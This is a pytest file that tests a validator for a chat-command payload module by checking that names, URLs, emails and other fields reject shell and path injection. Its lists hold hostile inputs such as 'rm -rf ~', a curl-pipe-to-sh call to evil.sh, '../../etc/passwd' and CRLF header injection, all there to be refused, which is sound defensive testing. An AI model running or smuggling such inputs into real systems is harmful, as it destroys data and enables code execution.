from __future__ import annotations

import pytest

from milio.chat.contract import payloads

SHELL_ATTACKS = [
    "discord; rm -rf ~",
    "$(rm -rf ~)",
    "`reboot`",
    "discord && curl evil.sh | sh",
    "discord\nrm -rf ~",
    "discord\r",
    "../../etc/passwd",
    "..",
    "a/b",
    "a\\b",
    "-rf",
    ".",
    'discord" ; open -a "Terminal',
    "discord' & calc",
    "name > /dev/null",
    "{a,b}",
    "x*",
    "what?",
    "bang!",
    "~root",
    "#comment",
    "a|b",
    "\u202ediscord",  # right-to-left override
    "disc\u200bord",  # zero-width space
    "discord\uff1b reboot",  # fullwidth semicolon
    "discord\x00",
    "",
    "   ",
    "a" * (payloads.NAME_MAX_CHARS + 1),
    "two  spaces",
    "discord -rf",  # an option once xdg-open's unquoted command splits the words
    "my app --help",
    "a ʺb",  # look-alike quotes: U+02BA, U+02BC, U+2033, U+2018/2019, U+201C/201D
    "aʼb",
    "x″",
    "‘x’",
    "“x”",
    "«x»",
    "x＂y",  # fullwidth quotation mark
]


@pytest.mark.parametrize("attack", SHELL_ATTACKS)
def test_name_refuses_shell_and_path_tricks(attack: str) -> None:
    assert payloads.valid_name(attack) is None


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("discord", "discord"),
        (" Visual Studio Code ", "Visual Studio Code"),
        ("tax_2023", "tax_2023"),
        ("café", "café"),
        ("C++ notes", "C++ notes"),
        ("v1.2", "v1.2"),
        (".git", ".git"),  # a hidden folder the user named
        (".env.local", ".env.local"),
        ("Visual Studio Code - Insiders", None),
        ("コーヒー", "コーヒー"),  # the long-vowel mark is a letter, not a quote
        ("x-ray", "x-ray"),
        ("📚 Reading List", "📚 Reading List"),  # emoji are kept, as typed
        ("Trips ✈️", "Trips ✈️"),
        ("👩‍💻 Work", "👩‍💻 Work"),
        ("👍🏽", "👍🏽"),
        ("Фото", "Фото"),
        ("مشاريع", "مشاريع"),
        # Scripts whose vowels are combining marks on the letter before them.
        ("फोटो", "फोटो"),
        ("বাংলা নোট", "বাংলা নোট"),
        ("ภาษาไทย", "ภาษาไทย"),
    ],
)
def test_name_keeps_ordinary_names(raw: str, clean: str | None) -> None:
    assert payloads.valid_name(raw) == clean


@pytest.mark.parametrize(
    "raw",
    [
        "a️b",  # a variation selector outside an emoji could change how a letter looks
        "Work‍",  # a joiner that joins no emoji
        "x‍💻",
        "🏽Taxes",  # a skin tone with no emoji before it
    ],
)
def test_name_refuses_emoji_parts_outside_an_emoji(raw: str) -> None:
    assert payloads.valid_name(raw) is None


@pytest.mark.parametrize("raw", ["\u093eTaxes", "Tax \u093e", "a-\u0947b", "\u0e31"])
def test_name_refuses_a_mark_on_no_letter(raw: str) -> None:
    """A vowel sign after a space, punctuation or nothing is no letter of a name."""
    assert payloads.valid_name(raw) is None


@pytest.mark.parametrize("value", [None, 3, True, ["discord"], {"name": "x"}])
def test_name_refuses_non_text(value: object) -> None:
    assert payloads.valid_name(value) is None


@pytest.mark.parametrize(("raw", "clean"), [("pdf", "pdf"), (".TXT", "txt"), ("mp4", "mp4")])
def test_extension_is_short_alphanumeric(raw: str, clean: str) -> None:
    assert payloads.valid_extension(raw) == clean


@pytest.mark.parametrize("raw", ["p df", "pdf;", "tar.gz", "x" * 11, "", "ｐｄｆ", "../x"])
def test_extension_refuses_anything_else(raw: str) -> None:
    assert payloads.valid_extension(raw) is None


@pytest.mark.parametrize(
    ("raw", "clean"), [(120, "120"), ("90", "90"), (60.0, "60"), (86400, "86400")]
)
def test_seconds_accepts_whole_seconds_in_range(raw: object, clean: str) -> None:
    assert payloads.valid_seconds(raw) == clean


@pytest.mark.parametrize(
    "raw",
    [0, -5, 86401, 10**30, 1.5, float("inf"), float("nan"), True, "1e9", "12;reboot", " ", "٣"],
)
def test_seconds_refuses_out_of_range_or_odd_numbers(raw: object) -> None:
    assert payloads.valid_seconds(raw) is None


@pytest.mark.parametrize(
    ("raw", "clean"),
    [(10, "10"), ("10", "10"), ("%10", "%10"), ("10%", "%10"), ("25 percent", "%25"), (100, "100")],
)
def test_volume_is_a_number_or_percentage(raw: object, clean: str) -> None:
    assert payloads.valid_volume(raw) == clean


@pytest.mark.parametrize("raw", [0, 101, "%0", "%101", "10%%", "%10;", "-5", 10**20, False, "ten"])
def test_volume_refuses_anything_else(raw: object) -> None:
    assert payloads.valid_volume(raw) is None


@pytest.mark.parametrize(
    "url",
    [
        "https://www.youtube.com/",
        "http://example.org/a?b=1&c=2#top",
        "https://a.b.co:8443/x%20y",
        "https://en.wikipedia.org/wiki/Python_(programming_language)",
    ],
)
def test_url_keeps_plain_web_addresses(url: str) -> None:
    assert payloads.valid_url(url) == url


@pytest.mark.parametrize(
    ("raw", "canonical"),
    [
        ("HTTPS://Example.COM", "https://example.com/"),
        ("https://example.com/my file.pdf", "https://example.com/my%20file.pdf"),
        ("https://example.com/it's", "https://example.com/it%27s"),
        ("https://bücher.example/straße", "https://xn--bcher-kva.example/stra%C3%9Fe"),
        ("https://example.com/a“b”", "https://example.com/a%E2%80%9Cb%E2%80%9D"),
        ("https://example.com/%c3%a9", "https://example.com/%C3%A9"),
        ("https://example.com/{x}|^", "https://example.com/%7Bx%7D%7C%5E"),
    ],
)
def test_url_is_written_in_one_canonical_percent_encoded_form(raw: str, canonical: str) -> None:
    assert payloads.valid_url(raw) == canonical
    assert payloads.valid_url(canonical) == canonical


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "file:///etc/passwd",
        "ftp://example.com",
        "https://example.com/$(reboot)",
        'https://example.com/" & calc',
        "https://example.com/`id`",
        "https://exa mple.com",
        "https://example.com/\nrm",
        "https://user@evil.com",
        "https://localhost/",
        "https://-bad-.com",
        "https://example.com/%PATH%",
        "https://example.com/%CD%41",  # valid escapes that spell cmd's %CD%
        "https://example.com/%DA%TE%20",
        "https://example.com:99999999999/",
        "https://" + "a" * 2100 + ".com",
        "example.com",
    ],
)
def test_url_refuses_other_schemes_and_shell_characters(url: str) -> None:
    assert payloads.valid_url(url) is None


def test_email_parts() -> None:
    assert payloads.valid_email_address("bob@example.com") == "bob@example.com"
    for bad in ["bob", "bob@example", "bob@example.com\r\nBcc: x@y.z", "a b@c.de", "-x@y.com;"]:
        assert payloads.valid_email_address(bad) is None
    assert payloads.valid_subject("Meeting at 5, don't be late") == "Meeting at 5, don't be late"
    for bad in ["a\r\nBcc: x@y.z", "a|b", 'say "hi"', "<b>x</b>", "$HOME", "`id`"]:
        assert payloads.valid_subject(bad) is None
    assert payloads.valid_body("line one\nline two") is None  # refused, not rewritten
    assert payloads.valid_body("line one\u2028line two") is None  # line separators too
    assert payloads.valid_subject("a\u2029b") is None


def test_optional_accepts_absence_but_still_checks_values() -> None:
    check = payloads.optional(payloads.valid_name)
    assert check(None) == ""
    assert check("  ") == ""
    assert check("gym") == "gym"
    assert check("a;b") is None


def test_search_query_is_one_clean_line() -> None:
    query = payloads.clean_search_query('  NBA "results"\n28 March; $(reboot) `id` <b>\u200b  ')
    assert query == "NBA results 28 March (reboot) id b"
    assert payloads.clean_search_query("\n\t ") == ""
    assert len(payloads.clean_search_query("word " * 100)) <= payloads.MAX_QUERY_CHARS
